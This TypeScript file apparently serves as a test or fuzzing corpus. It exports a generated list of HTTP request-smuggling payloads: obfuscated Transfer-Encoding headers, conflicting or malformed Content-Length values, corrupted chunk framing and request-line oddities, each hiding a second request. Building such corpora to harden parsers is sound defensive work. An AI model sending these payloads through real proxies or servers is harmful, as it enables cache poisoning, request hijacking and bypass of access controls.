/**
 * Requests written by hand to be read differently by two servers: what is known to have worked against some
 * proxy (RFC 9112 11.2; Linhart 2005; PortSwigger's "HTTP Desync Attacks" and "Browser-Powered Desync"). `INNER`
 * is the request that hides.
 */
const INNER = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n'
const POST = 'POST / HTTP/1.1\r\nHost: a\r\n'
const CHUNKED = 'Transfer-Encoding: chunked\r\n'
const END = '0\r\n\r\n'
const length = (n: number | string): string => `Content-Length: ${n}\r\n`

/** Transfer-Encodings that one server takes for chunked and another does not. */
const codings = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding: chunked\t',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x00chunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: chunked\r',
  'Transfer-Encoding: chun\xa0ked',
  'Transfer-Encoding\x00: chunked',
  'Transfer-Encoding: cHuNkEd',
  'transfer-encoding: chunked',
  'Transfer_Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:',
]

const lengths = [
  '+40',
  '-1',
  '0x28',
  '40 ',
  ' 40',
  '4 0',
  '40, 40',
  '40,0',
  '4e1',
  '040',
  '0000000000000000000040',
  '18446744073709551656',
  '40\t',
  '\x0b40',
  '40\x00',
  '',
  '4_0',
  '40\r\nContent-Length: 0',
  '0\r\nContent-Length: 40',
  '40\r\nContent-Length: 40',
]

/** What a chunk may be spoilt by, with a request behind it that a lenient reader finds. */
const chunks = [
  `5\r\nhello\r\n0\r\n\r\n`,
  `5;a=b\r\nhello\r\n${END}`,
  `5 \r\nhello\r\n${END}`,
  `5\nhello\r\n${END}`,
  `5\r\nhello\n0\r\n\r\n`,
  `5\r\nhello${END}`,
  `5\r\nhelloXX${END}`,
  `0x5\r\nhello\r\n${END}`,
  `+5\r\nhello\r\n${END}`,
  `-5\r\nhello\r\n${END}`,
  `00000005\r\nhello\r\n${END}`,
  `10000000000000005\r\nhello\r\n${END}`,
  `5;\r\nhello\r\n${END}`,
  `5;a=\r\nhello\r\n${END}`,
  `5;a="\r\nhello\r\n${END}`,
  `5;a="\\"\r\nhello\r\n${END}`,
  `5;a\nhello\r\n${END}`,
  `5\r\r\nhello\r\n${END}`,
  `5\r\nhello\r\n0\r\nContent-Length: 40\r\n\r\n`,
  `5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n`,
  `5\r\nhello\r\n0\r\n X: y\r\n\r\n`,
  `5\r\nhello\r\n0\n\n`,
  `5\r\nhello\r\n0\r\n\n`,
  `5\r\nhello\r\n00000\r\n\r\n`,
  `fffffffffffffff0\r\nhello\r\n${END}`,
]

export const smuggling: readonly string[] = [
  ...codings.flatMap(line => [
    `${POST}${line}\r\n\r\n${END}${INNER}`,
    `${POST}${length(INNER.length + END.length)}${line}\r\n\r\n${END}${INNER}`,
    `${POST}${line}\r\n${length(4)}\r\n27\r\n${INNER}\r\n${END}`,
  ]),
  ...lengths.flatMap(value => [
    `${POST}${length(value)}\r\n${INNER}`.padEnd(200, 'x'),
    `GET / HTTP/1.1\r\nHost: a\r\n${length(value)}\r\n${INNER}`,
  ]),
  ...chunks.flatMap(body => [
    `${POST}${CHUNKED}\r\n${body}${INNER}`,
    `DELETE / HTTP/1.1\r\nHost: a\r\n${CHUNKED}\r\n${body}${INNER}`,
  ]),
  ...['GET', 'HEAD', 'DELETE', 'OPTIONS', 'PATCH', 'TRACE', 'SEARCH', 'PROPFIND'].flatMap(
    method => [
      `${method} /x HTTP/1.1\r\nHost: a\r\n${length(INNER.length)}\r\n${INNER}`,
      `${method} /x HTTP/1.1\r\nHost: a\r\n${CHUNKED}\r\n${INNER.length.toString(16)}\r\n${INNER}\r\n${END}`,
      `${method} /x HTTP/1.0\r\nHost: a\r\n${CHUNKED}\r\n${END}${INNER}`,
      `${method} /x HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n${length(INNER.length)}\r\n${INNER}`,
    ],
  ),
  `${POST}Connection: Content-Length\r\n${length(INNER.length)}\r\n${INNER}`,
  `${POST}Connection: Transfer-Encoding\r\n${CHUNKED}\r\n${END}${INNER}`,
  `${POST}Connection: close, Host\r\n\r\n${INNER}`,
  `${POST}Expect: 100-continue\r\n${length(INNER.length)}\r\n${INNER}`,
  `${POST}Expect: 100-continue\r\n${CHUNKED}\r\n${END}${INNER}`,
  `GET / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n\r\n${INNER}`,
  `GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${INNER}`,
  `GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n${INNER}`,
  `GET /x HTTP/1.1\r\nHost: a\r\nX: ${'y'.repeat(300)}\r\n\r\n${INNER}`,
  `GET /\r\n\r\n${INNER}`,
  `GET / HTTP/1.1\r\nHost: a\r\n\r\n\r\n${INNER}`,
  `GET / HTTP/1.1\r\nHost: a\r\n\r\n\n${INNER}`,
  `GET / HTTP/1.1\r\n\r\n${INNER}`,
  `GET http://a/x HTTP/1.1\r\nHost: a\r\n\r\n${INNER}`,
  `GET http://b/x HTTP/1.1\r\nHost: a\r\n\r\n${INNER}`,
  `GET /a\x85b HTTP/1.1\r\nHost: a\r\n\r\n${INNER}`,
  `GET /%0d%0aX:%20y HTTP/1.1\r\nHost: a\r\n\r\n${INNER}`,
  `GET / HTTP/1.1\r\nHost: a\r\nX\x01: y\r\n\r\n${INNER}`,
  `GET / HTTP/1.1\r\nHost: a\r\n: y\r\n\r\n${INNER}`,
  `GET / HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n${INNER}`,
  `GET\t/ HTTP/1.1\r\nHost: a\r\n\r\n${INNER}`,
]
